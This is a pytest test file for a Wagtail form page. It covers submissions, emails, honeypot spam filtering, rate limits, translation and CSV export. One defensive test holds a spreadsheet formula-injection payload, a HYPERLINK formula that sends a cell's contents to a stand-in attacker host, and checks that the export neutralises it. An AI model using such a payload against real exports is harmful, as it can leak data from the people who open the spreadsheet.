"""The questions form page: built in the admin, stored, emailed, guarded."""

import csv
import io

import pytest
from django.core import mail
from django.core.cache import cache
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Locale
from wagtail.test.utils import WagtailPageTestCase
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text

import home.demo
import home.demo_questions
from home.models import FormField, FormPage, HomePage, SiteSettings, StandardPage
from home.spam import HONEYPOT_FIELD
from tests.html_validation import html_errors

pytestmark = pytest.mark.django_db

CONTACT_EMAIL = "ventanillasunicas@oei.es"  # the demo site settings' address
VALID = {
    "name": "Ana Pérez",
    "email": "ana@example.org",
    "topic": "Workshops",
    "country": "Ecuador",
    "message": "Is there a workshop in Valencia this spring?",
    "consent": "on",
}


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    """The rate limiter counts in the cache, which outlives a test's transaction."""
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def questions_page(home_page) -> FormPage:
    return home.demo_questions.load()


@pytest.fixture
def submit(client, questions_page, django_capture_on_commit_callbacks):
    """POST ``data`` (the valid answers by default) and run the queued emails."""

    def post(data=None, url=None, **extra):
        with django_capture_on_commit_callbacks(execute=True):
            return client.post(
                url or questions_page.url, VALID if data is None else data, **extra
            )

    return post


def spanish_translation(admin_client, page: FormPage) -> FormPage:
    """Translate the home page and ``page`` into Spanish and publish both."""
    locale = Locale.objects.get(language_code="es")
    for source in (HomePage.objects.get(locale__language_code="en"), page):
        admin_client.post(
            reverse("wagtail_localize:submit_page_translation", args=[source.pk]),
            {"locales": [locale.pk]},
        )
    HomePage.objects.get(locale=locale).save_revision().publish()
    spanish = FormPage.objects.get(locale=locale)
    spanish.title = "Preguntas, sugerencias y dudas"
    spanish.save_revision().publish()
    return FormPage.objects.get(pk=spanish.pk)


class FormPageAdminTests(WagtailPageTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.home = home.demo.load()

    def setUp(self):
        self.login()

    def test_form_page_lives_only_under_the_home_page(self):
        self.assertAllowedParentPageTypes(FormPage, {HomePage})
        self.assertAllowedSubpageTypes(FormPage, set())
        self.assertCanNotCreateAt(StandardPage, FormPage)

    def test_editor_creates_a_form_page_with_its_fields(self):
        data = nested_form_data(
            {
                "title": "Ask us",
                "slug": "ask-us",
                "introduction": rich_text("<p>Write to the team.</p>"),
                "thank_you_text": rich_text("<p>Thanks!</p>"),
                "to_address": "team@example.org",
                "from_address": "",
                "subject": "A question",
                "listing_summary": "",
                "form_fields": inline_formset(
                    [
                        {
                            "label": "Email",
                            "field_type": "email",
                            "required": "on",
                            "choices": "",
                            "default_value": "",
                            "help_text": "",
                        },
                        {
                            "label": "Topic",
                            "field_type": "dropdown",
                            "required": "on",
                            "choices": "Workshops\nOther",
                            "default_value": "",
                            "help_text": "",
                        },
                    ]
                ),
            }
        )
        self.assertCanCreate(self.home, FormPage, data)
        page = FormPage.objects.get(locale__language_code="en", slug="ask-us")
        assert list(page.form_fields.values_list("clean_name", flat=True)) == [
            "email",
            "topic",
        ]
        assert page.live


def test_form_page_shows_each_field_with_its_label_and_required_mark(
    client, questions_page
):
    content = client.get(questions_page.url).content.decode()
    assert (
        '<label class="form-field__label" for="form_email">Email '
        '<span class="form-field__required">(required)</span></label>'
    ) in content
    assert '<label class="form-field__label" for="form_name">Name</label>' in content
    assert 'aria-describedby="form_email_helptext"' in content
    assert '<option value="Country resources">Country resources</option>' in content
    assert '<option value="Uruguay">Uruguay</option>' in content
    assert "Leave this field empty" in content


def test_country_is_optional_and_starts_empty(client, questions_page, submit):
    content = client.get(questions_page.url).content.decode()
    assert '<option value="" selected>Choose…</option>' in content
    response = submit({**VALID, "country": ""})
    assert response.status_code == 200
    assert FormSubmission.objects.get(page=questions_page).form_data["country"] == ""


def test_valid_submission_is_stored_with_the_answers(submit, questions_page):
    response = submit()
    assert response.status_code == 200
    assert "<h1>Thank you</h1>" in response.content.decode()
    submission = FormSubmission.objects.get(page=questions_page)
    assert submission.form_data == {
        "name": "Ana Pérez",
        "email": "ana@example.org",
        "topic": "Workshops",
        "country": "Ecuador",
        "message": "Is there a workshop in Valencia this spring?",
        "consent": True,
    }


def test_submission_is_emailed_to_the_contact_address_when_to_address_is_blank(
    submit,
):
    submit()
    to_team = [m for m in mail.outbox if m.to == [CONTACT_EMAIL]]
    assert len(to_team) == 1
    message = to_team[0]
    assert message.subject == "Question from the website"
    assert message.reply_to == ["ana@example.org"]
    assert "Is there a workshop in Valencia this spring?" in message.body
    assert "Topic:\nWorkshops" in message.body


def test_submission_is_emailed_to_the_page_address_when_set(submit, questions_page):
    questions_page.to_address = "team@example.org, desk@example.org"
    questions_page.save_revision().publish()
    submit()
    recipients = [m.to for m in mail.outbox if m.to != ["ana@example.org"]]
    assert recipients == [["team@example.org", "desk@example.org"]]


def test_contact_address_follows_the_site_settings(submit, site):
    settings = SiteSettings.for_site(site)
    settings.contact_email = "questions@example.org"
    settings.save()
    submit()
    assert ["questions@example.org"] in [m.to for m in mail.outbox]


def test_sender_gets_a_multipart_acknowledgement(submit):
    submit()
    acknowledgements = [m for m in mail.outbox if m.to == ["ana@example.org"]]
    assert len(acknowledgements) == 1
    message = acknowledgements[0]
    assert message.extra_headers["Auto-Submitted"] == "auto-replied"
    html, mimetype = message.alternatives[0]
    assert mimetype == "text/html"
    assert '<html lang="en">' in html
    assert "We received your message" in message.body


def test_acknowledgement_does_not_repeat_what_was_written(submit):
    submit()
    message = next(m for m in mail.outbox if m.to == ["ana@example.org"])
    assert "Valencia" not in message.body
    assert "Valencia" not in message.alternatives[0][0]


def test_acknowledgement_is_in_the_language_of_the_page(
    english_only,
    admin_client,
    client,
    questions_page,
    django_capture_on_commit_callbacks,
):
    spanish = spanish_translation(admin_client, questions_page)
    # The Spanish form offers its choices in Spanish.
    choices = {
        f.clean_name: f.choices.split("\n")[0] for f in spanish.form_fields.all()
    }
    answers = {**VALID, "topic": choices["topic"], "country": choices["country"]}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(spanish.url, answers)
    assert response.status_code == 200
    message = next(m for m in mail.outbox if m.to == ["ana@example.org"])
    assert '<html lang="es">' in message.alternatives[0][0]
    assert FormSubmission.objects.get(page=spanish).form_data["email"] == (
        "ana@example.org"
    )


def test_no_acknowledgement_when_the_form_asks_for_no_email(
    home_page, client, django_capture_on_commit_callbacks
):
    page = FormPage(title="Suggestions", slug="suggestions")
    page.form_fields = [
        FormField(label="Suggestion", field_type="multiline", required=True)
    ]
    home_page.add_child(instance=page)
    page.save_revision().publish()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(page.url, {"suggestion": "More workshops in Porto."})
    assert response.status_code == 200
    assert [m.to for m in mail.outbox] == [[CONTACT_EMAIL]]


def test_honeypot_filled_looks_like_success_but_stores_and_sends_nothing(
    submit, questions_page
):
    response = submit({**VALID, HONEYPOT_FIELD: "http://spam.example"})
    assert response.status_code == 200
    assert "<h1>Thank you</h1>" in response.content.decode()
    assert not FormSubmission.objects.filter(page=questions_page).exists()
    assert mail.outbox == []


def test_invalid_submission_shows_errors_tied_to_fields_and_stores_nothing(
    submit, questions_page
):
    response = submit({**VALID, "email": "not an address", "consent": ""})
    assert response.status_code == 400
    content = response.content.decode()
    assert 'id="form_email_error"' in content
    assert 'aria-invalid="true"' in content
    assert 'aria-describedby="form_email_helptext form_email_error"' in content
    assert 'aria-describedby="form_consent_helptext form_consent_error"' in content
    assert 'value="Ana Pérez"' in content  # what was typed is kept
    assert not FormSubmission.objects.filter(page=questions_page).exists()
    assert mail.outbox == []


def test_unknown_topic_is_refused(submit, questions_page):
    response = submit({**VALID, "topic": "Lottery"})
    assert response.status_code == 400
    assert not FormSubmission.objects.filter(page=questions_page).exists()


def test_too_many_submissions_from_one_address_get_429(
    submit, questions_page, settings
):
    settings.FORM_RATE_LIMITS = {**settings.FORM_RATE_LIMITS, "question": "2/m"}
    assert submit().status_code == 200
    assert submit().status_code == 200
    response = submit()
    assert response.status_code == 429
    assert "try again later" in response.content.decode().lower()
    assert response["Retry-After"] == "60"
    assert FormSubmission.objects.filter(page=questions_page).count() == 2


@pytest.mark.parametrize(
    ("language", "text"),
    [("en", "What you wrote is kept below"), ("es", "Lo que escribió se conserva")],
)
def test_a_rate_limited_question_is_given_back_in_the_visitors_language(
    client, questions_page, settings, language, text
):
    settings.FORM_RATE_LIMITS = {**settings.FORM_RATE_LIMITS, "question": "1/m"}
    page = questions_page.get_translation(Locale.objects.get(language_code=language))
    message = "¿Hay un taller en Valencia esta primavera?"
    data = {**VALID, "message": message}
    client.post(page.url, data)  # valid or not, it uses up the limit
    stored = FormSubmission.objects.count()
    response = client.post(page.url, data)
    assert response.status_code == 429
    assert response["Retry-After"] == "60"
    content = response.content.decode()
    assert text in content
    assert f"\n{message}</textarea>" in content
    assert f'lang="{language}"' in content.split(">", 2)[1]
    assert FormSubmission.objects.count() == stored


def test_rate_limit_counts_per_address(submit, questions_page, settings):
    settings.FORM_RATE_LIMITS = {**settings.FORM_RATE_LIMITS, "question": "1/m"}
    assert submit(REMOTE_ADDR="192.0.2.1").status_code == 200
    assert submit(REMOTE_ADDR="192.0.2.2").status_code == 200
    assert submit(REMOTE_ADDR="192.0.2.1").status_code == 429


def test_acknowledgements_to_one_address_stop_at_its_limit(
    submit, questions_page, settings
):
    """A stranger typing someone's address many times (from many machines)
    fills nobody's inbox; every question still reaches the team."""
    settings.FORM_RATE_LIMITS = {
        **settings.FORM_RATE_LIMITS,
        "question": "100/m",
        "question_acknowledgement": "2/h",
    }
    for index, email in enumerate(["ana@example.org", "ANA@example.org"] * 2):
        submit({**VALID, "email": email}, REMOTE_ADDR=f"192.0.2.{index + 1}")
    submit({**VALID, "email": "luis@example.org"})
    acknowledged = [m.to[0].lower() for m in mail.outbox if m.to != [CONTACT_EMAIL]]
    assert acknowledged == ["ana@example.org"] * 2 + ["luis@example.org"]
    assert [m.to for m in mail.outbox].count([CONTACT_EMAIL]) == 5
    assert FormSubmission.objects.filter(page=questions_page).count() == 5


def test_mail_server_down_keeps_the_submission(submit, questions_page, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = "127.0.0.1"
    settings.EMAIL_PORT = 9  # discard: nothing listens, the connection is refused
    settings.EMAIL_TIMEOUT = 2
    response = submit()
    assert response.status_code == 200
    assert FormSubmission.objects.filter(page=questions_page).count() == 1


def test_submissions_are_exported_from_the_admin(admin_client, submit, questions_page):
    submit()
    url = reverse("wagtailforms:list_submissions", args=[questions_page.pk])
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    assert "Is there a workshop in Valencia this spring?" in content
    assert HONEYPOT_FIELD not in content


def test_the_submissions_csv_neutralises_formulas(admin_client, submit, questions_page):
    """An answer a spreadsheet would run (``=HYPERLINK(...)``) arrives as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    submit({**VALID, "name": formula, "message": "@SUM(1+1)"})
    url = reverse("wagtailforms:list_submissions", args=[questions_page.pk])
    response = admin_client.get(url, {"export": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert formula not in cells


def test_form_page_is_translated_with_its_fields(
    english_only, admin_client, questions_page
):
    spanish = spanish_translation(admin_client, questions_page)
    assert list(spanish.form_fields.values_list("clean_name", flat=True)) == list(
        questions_page.form_fields.values_list("clean_name", flat=True)
    )


def test_form_and_landing_pages_are_valid_html(
    client, questions_page, submit, tmp_path
):
    documents = {
        "form": client.get(questions_page.url).content.decode(),
        "form with errors": submit({**VALID, "email": "x"}).content.decode(),
        "landing": submit().content.decode(),
    }
    assert html_errors(documents, tmp_path) == []
